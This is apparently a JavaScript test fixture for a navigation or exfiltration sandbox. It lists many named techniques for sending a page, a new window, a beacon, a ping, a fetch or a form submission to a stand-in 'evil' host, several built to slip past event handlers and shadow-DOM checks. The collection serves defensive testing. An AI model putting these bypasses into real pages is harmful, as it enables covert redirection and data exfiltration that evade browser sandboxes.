// The page, or a new window, goes there and takes what it knows along.
export default {
  location: ({ evil }) => void (location = evil),
  "location.href": ({ evil }) => void (location.href = evil),
  "location.assign": ({ evil }) => location.assign(evil),
  "location.replace": ({ evil }) => location.replace(evil),
  "location.port": ({ port }) => void (location.port = port),
  "location.host": ({ evil }) => void (location.host = new URL(evil).host),
  "document.location": ({ evil }) => void (document.location = evil),
  "top.location": ({ evil }) => void (top.location = evil),
  "parent.location, by Reflect": ({ evil }) => Reflect.set(parent, "location", evil),
  "location's setter of a frame": ({ add, evil }) => {
    add("iframe");
    Object.getOwnPropertyDescriptor(window[0], "location").set.call(window, evil);
  },
  "assign of a frame on the page's location": ({ add, evil }) => {
    add("iframe");
    window[0].location.assign.call(location, evil);
  },
  "navigation.navigate": ({ evil }) => void navigation.navigate(evil).finished.catch(() => {}),
  "navigation.navigate that replaces": ({ evil }) =>
    void navigation.navigate(evil, { history: "replace" }).finished.catch(() => {}),
  "on an exhausted stack": ({ evil }) => {
    let left = 40;
    const deep = () => {
      try {
        deep();
      } catch {}
      if (left > 0)
        try {
          location.href = evil;
          left--;
        } catch {}
    };
    deep();
  },
  "in a navigate event": ({ evil, own }) => {
    navigation.addEventListener("navigate", () => (location = evil), { once: true });
    location = `${own}/plain`;
  },
  "in a navigate event that is intercepted": ({ evil, own }) => {
    navigation.addEventListener("navigate", (e) => {
      if (e.destination.url === `${own}/plain`) e.intercept({ handler: async () => void (location = evil) });
    });
    navigation.navigate(`${own}/plain`);
  },
  "with the event stopped": ({ evil }) => {
    for (const at of [navigation, window]) at.addEventListener("navigate", (e) => e.stopImmediatePropagation(), true);
    location = evil;
  },
  "a beacon in beforeunload": ({ evil, own }) => {
    addEventListener("beforeunload", () => navigator.sendBeacon(evil, "x"));
    location = `${own}/plain`;
  },
  "a beacon in pagehide": ({ evil, own }) => {
    addEventListener("pagehide", () => navigator.sendBeacon(evil, "x"));
    location = `${own}/plain`;
  },
  "a fetch in unload": ({ evil, own }) => {
    addEventListener("unload", () => fetch(evil, { mode: "no-cors", keepalive: true }));
    location = `${own}/plain`;
  },
  "a blob: document": ({ blob, script, evil }) => void (location = blob(script(`location = "${evil}"`))),
  "a blob: document that asks for more": ({ blob, script, evil }) =>
    void (location = blob(script(`new Image().src = "${evil}"; fetch("${evil}", { mode: "no-cors" })`))),
  "a javascript: URL": ({ evil }) => void (location = `javascript:void(location = "${evil}")`),
  "a javascript: URL that becomes a document": ({ evil, script }) =>
    void (location = `javascript:'${script(`location="${evil}"`)}'`),
  "a written document": ({ evil, script }) => {
    document.open();
    document.write(script(`location = "${evil}"`));
    document.close();
  },
  "a written document with a link": ({ evil }) => {
    document.open();
    document.write(`<a href="${evil}" target="_blank"><b>x</b></a>`);
    document.close();
    document.querySelector("b").dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a written document with a button": ({ evil }) => {
    document.open();
    document.write(`<form action="${evil}"><button>x</button></form>`);
    document.close();
    document.querySelector("button").click();
  },
  "a refresh by markup": ({ evil }) =>
    document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0; url=${evil}">`),
  "a refresh by properties": ({ add, evil }) => add("meta", { httpEquiv: "refresh", content: `0; url=${evil}` }),
  "a refresh without its url=": ({ add, evil }) => add("meta", { httpEquiv: "refresh", content: `0 ${evil}` }),
  "a refresh in quotes and spaces": ({ add, evil }) =>
    add("meta", { httpEquiv: "REFRESH", content: ` 0 ;\n URL = '${evil}' x` }),
  "a refresh that changes its mind": async ({ add, evil, own }) => {
    const m = add("meta", { httpEquiv: "refresh", content: `9; url=${own}` });
    m.attributes.content.value = `0; url=${evil}`;
  },
  "a refresh of the page's own meta": ({ evil }) => {
    const m = document.querySelector("meta");
    m.setAttributeNS(null, "content", `0; url=${evil}`);
    m.setAttributeNS(null, "http-equiv", "refresh");
    document.head.append(m);
  },
  "a refresh that a frame's document makes": ({ add, evil }) => {
    add("iframe");
    const m = window[0].document.createElement("meta");
    window[0].Element.prototype.setAttribute.call(m, "http-equiv", "refresh");
    window[0].Element.prototype.setAttribute.call(m, "content", `0; url=${evil}`);
    document.head.append(m);
  },
  "window.open": ({ evil }) => void open(evil),
  "window.open of itself": ({ evil }) => void open(evil, "_self"),
  "window.open at the top": ({ evil }) => void open(evil, "_top"),
  "window.open without an opener": ({ evil }) => void open(evil, "_blank", "noopener,noreferrer"),
  "window.open by name, twice": ({ evil }) => {
    open("about:blank", "w");
    open(evil, "w");
  },
  "window.open on an exhausted stack": ({ evil }) => {
    let left = 3;
    const deep = () => {
      try {
        deep();
      } catch {}
      if (left > 0)
        try {
          open(evil);
          left--;
        } catch {}
    };
    deep();
  },
  "document.open of three": ({ evil }) => void document.open(evil, "_blank", ""),
  "window.open by call": ({ evil }) => {
    void Window.prototype.open?.call(window, evil);
    return open.call(undefined, evil);
  },
  "a link": ({ add, evil }) => add("a", { href: evil }).click(),
  "a link in a new window": ({ add, evil }) => add("a", { href: evil, target: "_blank" }).click(),
  "a link in no document": ({ evil }) =>
    Object.assign(document.createElement("a"), { href: evil, target: "_blank" }).click(),
  "a link by a dispatched click": ({ add, evil }) =>
    void add("a", { href: evil, target: "_blank" }).dispatchEvent(new MouseEvent("click")),
  "a link by a click of another interface": ({ add, evil }) =>
    void add("a", { href: evil, target: "_blank" }).dispatchEvent(
      new PointerEvent("click", { bubbles: true, composed: true }),
    ),
  "a link by a click of the old way": ({ add, evil }) => {
    const event = document.createEvent("MouseEvents");
    event.initMouseEvent("click", true, true, window, 1, 0, 0, 0, 0, false, false, false, false, 0, null);
    add("a", { href: evil, target: "_blank" }).dispatchEvent(event);
  },
  "a link by a click on what is in it": ({ add, evil }) => {
    const a = add("a", { href: evil, target: "_blank" });
    add("b", {}, a).click();
  },
  "a link around a slot": ({ add, evil }) => {
    const host = add("div");
    host.attachShadow({ mode: "closed" }).innerHTML = `<a href="${evil}" target="_blank"><slot></slot></a>`;
    add("b", {}, host).click();
  },
  "a link around a slot, made without markup": ({ add, evil }) => {
    const host = add("div");
    const a = Object.assign(document.createElement("a"), { href: evil, target: "_blank" });
    a.append(document.createElement("slot"));
    host.attachShadow({ mode: "closed" }).append(a);
    add("b", {}, host).dispatchEvent(new MouseEvent("click", { bubbles: true, composed: true }));
  },
  "a link by a label's click": ({ evil }) => {
    const root = document.createElement("div");
    const a = Object.assign(document.createElement("a"), { href: evil, target: "_blank" });
    const label = document.createElement("label");
    const output = document.createElement("output");
    a.append(output);
    label.append(a);
    root.append(label);
    label.click();
  },
  "a link by a label's click, in a closed shadow tree": ({ add, evil }) => {
    const root = add("div").attachShadow({ mode: "closed" });
    const a = Object.assign(document.createElement("a"), { href: evil, target: "_blank" });
    const label = Object.assign(document.createElement("label"), { htmlFor: "o" });
    const output = Object.assign(document.createElement("output"), { id: "o" });
    a.append(output);
    root.append(label, a);
    label.click();
  },
  "a link under an element that only looks like one": ({ add, evil }) => {
    const a = add("a", { href: evil, target: "_blank" });
    const b = a.appendChild(document.createElementNS("urn:x", "a"));
    b.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a link under one that goes nowhere": ({ add, evil }) => {
    const a = add("a", { href: evil, target: "_blank" });
    const b = document.createElement("a");
    a.append(b);
    b.click();
  },
  "a link with two attributes of that name": ({ add, own, evil }) => {
    const a = add("a", { target: "_blank" });
    a.setAttributeNS("urn:x", "href", own);
    a.setAttributeNS(null, "href", evil);
    a.click();
  },
  "a link whose href changes in the click": ({ add, own, evil }) => {
    const a = add("a", { href: `${own}/plain`, target: "_blank" });
    a.addEventListener("click", () => (a.href = evil));
    a.click();
  },
  "a link whose href changes by its Attr": ({ add, own, evil }) => {
    const a = add("a", { href: `${own}/plain`, target: "_blank" });
    a.onclick = () => (a.getAttributeNode("href").value = evil);
    a.dispatchEvent(new MouseEvent("click"));
  },
  "a link whose target changes in the click": ({ add, evil }) => {
    const a = add("a", { href: "#" });
    a.addEventListener("click", () => Object.assign(a, { href: evil, target: "_blank" }));
    a.click();
  },
  "a link that gets its href in the click": ({ add, evil }) => {
    const a = add("a", { target: "_blank" });
    a.addEventListener("click", () => (a.href = evil));
    a.click();
  },
  "a link of SVG that gets its href in the click": ({ add, evil }) => {
    const svg = (name, parent) => parent.appendChild(document.createElementNS("http://www.w3.org/2000/svg", name));
    const a = svg("a", svg("svg", add("div")));
    a.setAttribute("target", "_blank");
    a.addEventListener("click", () => a.setAttribute("href", evil));
    a.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }));
  },
  "a link by a label's click that changes it": ({ add, own, evil }) => {
    const a = add("a", { href: `${own}/plain`, target: "_blank" });
    add("output", { id: "o" }, a);
    a.addEventListener("click", () => (a.href = evil));
    add("label", { htmlFor: "o" }).click();
  },
  "a link by an event that is sent twice": ({ add, own, evil }) => {
    const a = add("a", { href: `${own}/plain`, target: "_blank" });
    const event = new MouseEvent("click", { bubbles: true, cancelable: true });
    a.addEventListener("click", () => event.preventDefault(), { once: true });
    a.dispatchEvent(event);
    a.addEventListener("click", () => (a.href = evil));
    event.initEvent("click", true, true);
    a.dispatchEvent(event);
  },
  "a link in a closed shadow tree, the click stopped on its way": ({ add, evil }) => {
    addEventListener("click", (event) => event.stopPropagation(), true);
    const a = Object.assign(document.createElement("a"), { href: evil, target: "_blank" });
    add("div").attachShadow({ mode: "closed" }).append(a);
    a.click();
  },
  "a link in a closed shadow tree, by a slot, the click stopped on its way": ({ add, evil }) => {
    addEventListener("click", (event) => event.stopPropagation(), true);
    const host = add("div");
    const a = Object.assign(document.createElement("a"), { href: evil, target: "_blank" });
    a.append(document.createElement("slot"));
    host.attachShadow({ mode: "closed" }).append(a);
    add("b", {}, host).click();
  },
  "a link that moves in the click": ({ add, own, evil }) => {
    const a = add("a", { target: "_blank", href: `${own}/plain` });
    const b = add("b", {}, a);
    b.addEventListener("click", () => {
      a.setAttributeNS("urn:x", "href", own);
      a.removeAttributeNS(null, "href");
      a.setAttributeNS(null, "href", evil);
      a.remove();
    });
    b.click();
  },
  "a link in a fragment": ({ evil }) => {
    const fragment = document.createDocumentFragment();
    const a = fragment.appendChild(Object.assign(document.createElement("a"), { href: evil, target: "_blank" }));
    a.appendChild(document.createElement("b")).dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a link whose click's type is written late": ({ add, evil }) => {
    const event = document.createEvent("MouseEvents");
    const type = { toString: () => "click" };
    event.initMouseEvent(type, true, false, window, 1, 0, 0, 0, 0, false, false, false, false, 0, null);
    add("a", { href: evil, target: "_blank" }).dispatchEvent(event);
  },
  "a download": ({ add, evil }) => add("a", { href: `${evil}/x.bin`, download: "x" }).click(),
  "a download whose href changes in the click": ({ add, own, evil }) => {
    const a = add("a", { href: `${own}/plain`, download: "x" });
    a.addEventListener("click", () => (a.href = evil));
    a.click();
  },
  "a link with a ping": ({ add, evil }) => add("a", { href: "#", ping: evil }).click(),
  "a link with a ping that comes in the click": ({ add, evil }) => {
    const a = add("a", { href: "#" });
    a.addEventListener("click", () => (a.ping = evil));
    a.click();
  },
  "a link to a blob: document in a new window": ({ add, blob, script, evil }) =>
    add("a", { href: blob(script(`location = "${evil}"`)), target: "_blank" }).click(),
  "a link to a blob: document": ({ add, blob, script, evil }) =>
    add("a", { href: blob(script(`location = "${evil}"`)) }).click(),
  "a link to a javascript: URL in a new window": ({ add, evil }) =>
    add("a", { href: `javascript:location="${evil}"`, target: "_blank", rel: "opener" }).click(),
  "a link that names a new window, and its window": async ({ add, evil, sleep }) => {
    add("a", { href: "about:blank", target: "w", rel: "opener" }).click();
    await sleep(200);
    open("", "w").location = evil;
  },
  "an area": ({ add, evil }) => {
    const map = add("map", { name: "m" });
    add("area", { href: evil, target: "_blank" }, map).click();
  },
  "a link of SVG": ({ add, evil }) => {
    const a = add("div")
      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "a"));
    a.setAttribute("href", evil);
    a.setAttribute("target", "_blank");
    a.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a link of SVG by XLink": ({ add, evil }) => {
    const a = add("div")
      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "a"));
    a.setAttributeNS("http://www.w3.org/1999/xlink", "xlink:href", evil);
    a.setAttribute("target", "_blank");
    a.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a link of SVG by XLink with another prefix": ({ add, evil }) => {
    const a = add("div")
      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg"))
      .appendChild(document.createElementNS("http://www.w3.org/2000/svg", "a"));
    a.setAttributeNS("http://www.w3.org/1999/xlink", "x:href", evil);
    a.setAttribute("target", "_blank");
    a.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a link of SVG that is animated": async ({ add, own, evil, sleep }) => {
    const svg = (name, parent) => parent.appendChild(document.createElementNS("http://www.w3.org/2000/svg", name));
    const a = svg("a", svg("svg", add("div")));
    a.setAttribute("href", `${own}/plain`);
    a.setAttribute("target", "_blank");
    const set = svg("set", a);
    set.setAttribute("attributeName", "href");
    set.setAttribute("to", evil);
    await sleep(300);
    a.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a link of MathML": ({ add, evil }) => {
    const m = add("div").appendChild(document.createElementNS("http://www.w3.org/1998/Math/MathML", "math"));
    m.setAttribute("href", evil);
    m.dispatchEvent(new MouseEvent("click", { bubbles: true }));
  },
  "a link and a base": ({ add, evil }) => {
    document.head.append(Object.assign(document.createElement("base"), { href: evil }));
    add("a", { href: "/x", target: "_blank" }).click();
  },
  "a link and a base with a target": ({ add, evil }) => {
    document.head.append(Object.assign(document.createElement("base"), { target: "_blank" }));
    add("a", { href: evil }).click();
  },
  "a form": ({ add, evil }) => add("form", { action: evil }).submit(),
  "a form that posts in a new window": ({ add, evil }) =>
    add("form", { action: evil, method: "post", target: "_blank" }).submit(),
  "a form's requestSubmit": ({ add, evil }) => add("form", { action: evil }).requestSubmit(),
  "a form's button": ({ add, evil }) => add("button", {}, add("form", { action: evil })).click(),
  "a button's formaction": ({ add, evil, own }) =>
    add("button", { formAction: evil }, add("form", { action: own })).click(),
  "a button of elsewhere": ({ add, evil }) => {
    add("form", { action: evil, id: "f" });
    const b = add("button");
    b.setAttribute("form", "f");
    b.click();
  },
  "an image that submits": ({ add, evil, own }) =>
    add("input", { type: "image", formAction: evil }, add("form", { action: own })).click(),
  "a form with two actions": ({ add, evil, own }) => {
    const f = add("form");
    f.setAttributeNS("urn:x", "action", own);
    f.setAttributeNS(null, "action", evil);
    f.submit();
  },
  "a form whose action changes in its event": ({ add, evil, own }) => {
    const f = add("form", { action: `${own}/plain`, target: "_blank" });
    f.addEventListener("submit", () => (f.action = evil));
    f.requestSubmit();
  },
  "a form whose data event moves it": ({ add, evil, own }) => {
    const f = add("form", { action: `${own}/plain` });
    f.addEventListener("formdata", () => (f.action = evil));
    f.submit();
  },
  "a form with a field called action": ({ add, evil }) => {
    const f = add("form", { action: evil, target: "_blank" });
    f.append(Object.assign(document.createElement("input"), { name: "action" }));
    HTMLFormElement.prototype.submit.call(f);
  },
  "a form of a frame": ({ add, evil }) => {
    add("iframe");
    const f = window[0].document.createElement("form");
    Object.assign(f, { action: evil, target: "_top" });
    window[0].document.body.append(f);
    f.submit();
  },
  "Enter in a field": ({ add, evil }) => {
    const f = add("form", { action: evil, target: "_blank" });
    add("button", {}, f);
    add("input", {}, f).form.querySelector("button").dispatchEvent(new MouseEvent("click"));
  },
};
